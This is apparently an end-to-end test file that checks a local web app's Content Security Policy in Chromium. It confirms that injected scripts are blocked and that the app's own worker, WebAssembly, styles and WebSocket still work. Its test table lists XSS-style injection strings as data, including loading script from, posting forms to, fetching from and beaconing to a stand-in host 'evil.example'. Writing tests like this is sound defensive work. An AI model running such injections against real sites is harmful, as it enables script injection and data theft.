// The policy as Chromium enforces it: what an injected script would try is stopped, what the page needs still works.
import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, beforeEach, afterEach, expect, test } from 'vitest'
import { startBrowserHost, type BrowserHost } from '../../main/host/browser.ts'
import { pressableStyle } from '../../main/host/headers.ts'
import { launchChromium } from '../e2e/chromium.ts'
import { writeManifest } from '../../scripts/page-manifest.ts'
import { apiWith } from '../preload/api.ts'
import { listLog, temporaryFolder } from './temp.ts'

/** The smallest WebAssembly module: magic number and version. */
const emptyWasm = [0, 97, 115, 109, 1, 0, 0, 0]

let browser: Browser
let host: BrowserHost
let page: Page
const said: string[] = []

beforeAll(async () => {
  browser = await launchChromium()
})
afterAll(() => browser.close())

beforeEach(async () => {
  const dir = temporaryFolder()
  writeFileSync(
    join(dir, 'index.html'),
    '<!doctype html><html lang="en"><title>till</title><link rel="icon" href="data:,"><script type="module" src="/page.js"></script><main></main>',
  )
  writeFileSync(
    join(dir, 'page.js'),
    // Lets every text through, so that each attack meets the directive it is meant for; trusted-types.e2e.ts has the other half.
    `window.violations = []
trustedTypes.createPolicy('default', { createHTML: text => text, createScript: text => text, createScriptURL: text => text })
addEventListener('securitypolicyviolation', event => window.violations.push(event.effectiveDirective))
window.ready = true`,
  )
  writeFileSync(
    join(dir, 'worker.js'),
    `postMessage(WebAssembly.validate(new Uint8Array(${JSON.stringify(emptyWasm)})))`,
  )
  writeManifest(dir)
  host = await startBrowserHost({
    port: 0,
    dir,
    api: apiWith({ 'journal.verify': async () => ({ entries: 1, whole: true }) }),
    explain: () => ({ code: 'internal', incident: 'x' }),
    log: listLog(),
    frameOrigins: ['https://check.example.com'],
  })
  page = await browser.newPage()
  said.length = 0
  page.on('console', message => void said.push(message.text()))
  await page.goto(host.url)
  await page.waitForFunction('window.ready')
})
afterEach(async () => {
  await page.close()
  await host.close()
})

const violations = () => page.evaluate<string[]>('window.violations')

test('the page opens without a complaint from the browser', async () => {
  expect(page.url()).toBe(`${host.origin}/`)
  expect(said).toEqual([])
})

test.each([
  [
    'script-src-elem',
    "const s = document.createElement('script'); s.textContent = 'window.owned = 1'; document.body.append(s)",
  ],
  [
    'script-src-elem',
    "const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; document.body.append(s)",
  ],
  ['script-src-attr', 'document.body.innerHTML = \'<img src=/none onerror="window.owned = 1">\''],
  ['script-src', "setTimeout(() => { try { eval('window.owned = 1') } catch {} })"],
  ['base-uri', "const b = document.createElement('base'); b.href = 'https://evil.example/'; document.head.append(b)"],
  [
    'form-action',
    "const f = document.createElement('form'); f.action = 'https://evil.example/'; document.body.append(f); f.submit()",
  ],
  ['frame-src', "const f = document.createElement('iframe'); f.src = 'https://evil.example/'; document.body.append(f)"],
  ['connect-src', "fetch('https://evil.example/').catch(() => {})"],
  ['connect-src', "try { new WebSocket('ws://127.0.0.1:9/') } catch {}"],
  ['img-src', "const i = new Image(); i.src = 'https://evil.example/pixel.png'"],
  [
    'style-src-elem',
    "const s = document.createElement('style'); s.textContent = 'body { color: red }'; document.head.append(s)",
  ],
  ['worker-src', "try { new Worker(URL.createObjectURL(new Blob(['1']))) } catch {}"],
  [
    'object-src',
    "const o = document.createElement('object'); o.data = 'https://evil.example/x.swf'; document.body.append(o)",
  ],
])('%s stops: %s', async (directive, attack) => {
  // Playwright's own evaluate is not bound by the policy; the attack therefore runs as code of the page.
  await page.evaluate(attack)
  await expect.poll(violations).toContain(directive)
  expect(await page.evaluate('window.owned')).toBeUndefined()
})

test('what the page needs is allowed: a worker with WebAssembly, its own styles, the wire', async () => {
  const worked = await page.evaluate(
    `(async () => {
      const worker = new Worker('/worker.js', { type: 'module' })
      const wasm = await new Promise((resolve, reject) => { worker.onmessage = e => resolve(e.data); worker.onerror = reject })
      const style = document.createElement('style')
      style.textContent = ${JSON.stringify(pressableStyle)}
      document.head.append(style)
      document.body.setAttribute('style', 'color: rgb(1, 2, 3)')
      const socket = new WebSocket(location.origin.replace('http', 'ws') + '/wire')
      await new Promise((resolve, reject) => { socket.onopen = resolve; socket.onerror = reject })
      const answer = new Promise(resolve => { socket.onmessage = e => resolve(JSON.parse(e.data)) })
      socket.send(JSON.stringify({ id: 1, name: 'journal.verify', input: {} }))
      return { wasm, colour: getComputedStyle(document.body).color, sheets: style.sheet.cssRules.length, answer: await answer }
    })()`,
  )
  expect(worked).toEqual({
    wasm: true,
    colour: 'rgb(1, 2, 3)',
    sheets: 1,
    answer: { id: 1, result: { ok: true, value: { entries: 1, whole: true } } },
  })
  expect(await violations()).toEqual([])
})

test('another browser on this machine sees only how to open the till', async () => {
  const stranger = await browser.newContext()
  const other = await stranger.newPage()
  await other.goto(host.origin)
  expect(await other.textContent('h1')).toBe('Open the till with its link')
  await stranger.close()
})
